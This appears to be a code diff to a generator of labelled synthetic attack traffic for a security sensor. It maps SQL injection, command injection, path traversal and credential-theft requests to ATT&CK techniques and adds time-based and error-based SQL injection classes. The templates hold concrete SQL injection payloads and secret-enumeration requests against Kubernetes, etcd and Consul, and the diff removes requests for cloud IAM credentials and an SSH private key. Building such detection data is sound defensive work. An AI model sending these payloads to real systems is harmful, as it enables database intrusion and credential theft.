@@ -9,9 +9,11 @@ _code = attack("Remote Code Execution Exploit", "T1190", "T1059", severity="CRIT
 _shell = attack("OS Command Injection Attempt", "T1059.004", "T1190", severity="CRITICAL")
 _files = attack("Path Traversal / Directory Traversal Attack", "T1083", "T1190", severity="HIGH")
 _recon = attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", "T1595.003", severity="MEDIUM")
-_secrets = attack("Credential Theft", "T1552.001", "T1190", severity="HIGH")
+_secrets = attack("Credential Theft", "T1552.007", "T1190", severity="HIGH")
 _container = attack("Privilege Escalation", "T1610", "T1611", severity="CRITICAL")
 _sql = attack("SQL Injection — Union/Boolean SQLi", "T1190", severity="HIGH")
+_waiting = attack("SQL Injection — Time-based Blind SQLi", "T1190", severity="HIGH")
+_faulty = attack("SQL Injection — Error-based SQLi", "T1190", severity="HIGH")
 _account = attack("Persistence", "T1136", "T1190", severity="HIGH")
 
 topic("sensor-java-consoles-taken-over sensor-java-consoles-in-service", "code access disclosure settings", "Spring Boot Actuator 未授权访问|Jolokia 远程代码执行|Nacos 认证绕过漏洞|XXL-JOB 任意命令执行|Spring Cloud Gateway 代码注入(CVE-2022-22947)|Druid 未授权访问", {
@@ -148,8 +150,6 @@ GET /api/v1/namespaces/kube-system/secrets ¦ User-Agent: ⟨python-requests/2.3
 GET /v2/keys/registry/secrets?recursive=true
 GET /api/v1/secrets?limit=500 ¦ Authorization: Bearer anonymous
 GET /v1/kv/?recurse&token=anonymous
-GET /latest/meta-data/iam/security-credentials/{word}
-GET /v1.41/containers/{hex}/archive?path=/root/.ssh/id_rsa
 GET /configs ¦ User-Agent: zgrab/0.x ¦ X-Original-URL: /api/v1/namespaces/default/secrets
 """}, """
 GET /v1.41/containers/json?all=1&filters=«{"label":["com.docker.compose.project={micro}"]}» ¦ User-Agent: Docker-Client/24.0.5 (linux)
@@ -254,16 +254,24 @@ POST /console/portal ¦¦ handle=com.bea.console.handles.JMXHandle&action=refres
 
 topic("sensor-table-widgets-injected sensor-table-widgets-filtered", "sql sql sql other", "SQL注入攻击(JSON参数)|HTTP请求参数中发现SQL关键字|疑似SQL盲注|order by 注入|SQL注入(语义分析)", {
     _sql: """
-POST /system/role/list ¦¦ pageNum=1&dataScope=&params[dataScope]=«and extractvalue(1,concat(0x7e,(select database()),0x7e))»
-POST /device/page ¦¦ {"current":1,"size":10,"orders":[{"column":"(select*from(select sleep(5))a)","asc":true}]}
 GET /user/page?sort=«id,(case when(1=1)then 1 else(select 1 union select 2)end)»&order=asc
-POST /grid/data ¦¦ sidx=«1;select pg_sleep(5)--»&sord=desc&rows=20
 POST /report/list ¦¦ {"where":"1=1 union select login_name,password,3 from sys_user"}
 GET /api/list?filter=«{sqli}»&limit=20
 POST /grid/data ¦¦ filters=«{"rules":[{"field":"name' or '1'='1","op":"eq","data":"x"}]}»
 GET /odata/Items?$filter=«name eq '{n}' or 1 eq 1) union select pwd from users--»
-POST /graphql ¦¦ {"query":"{users(where:\\"1=1) OR SLEEP(4)-- \\"){id password}}"}
 GET /api/chart?group=«month having 1=1 and (select count(*) from all_users)>0--»
+POST /graphql ¦¦ {"query":"{users(where:\\"{sqli}\\"){id password}}"}
+POST /grid/data ¦¦ searchField=«{sqli}»&sord=desc&rows=20
+""", _waiting: """
+POST /device/page ¦¦ {"current":1,"size":10,"orders":[{"column":"{waiting}","asc":true}]}
+POST /grid/data ¦¦ sidx=«{waiting}»&sord=desc&rows=20
+POST /graphql ¦¦ {"query":"{users(where:\\"{waiting}\\"){id password}}"}
+GET /api/list?filter=«{waiting}»&limit=20
+""", _faulty: """
+POST /system/role/list ¦¦ params[dataScope]=«and extractvalue(1,concat(0x7e,(select database()),0x7e))»&pageNum=1
+POST /report/list ¦¦ {"where":"{faulty}"}
+GET /api/list?filter=«{faulty}»&limit=20
+GET /odata/Items?$filter=«{faulty}»
 """}, """
 POST /system/role/list ¦¦ pageNum={n}&pageSize=10&orderByColumn=createTime&isAsc=desc&params[beginTime]={date}&params[dataScope]=
 POST /device/page ¦¦ {"current":{n},"size":10,"orders":[{"column":"create_time","asc":false}],"params":{"name":"{talk}","in":["1","2","3"]}}
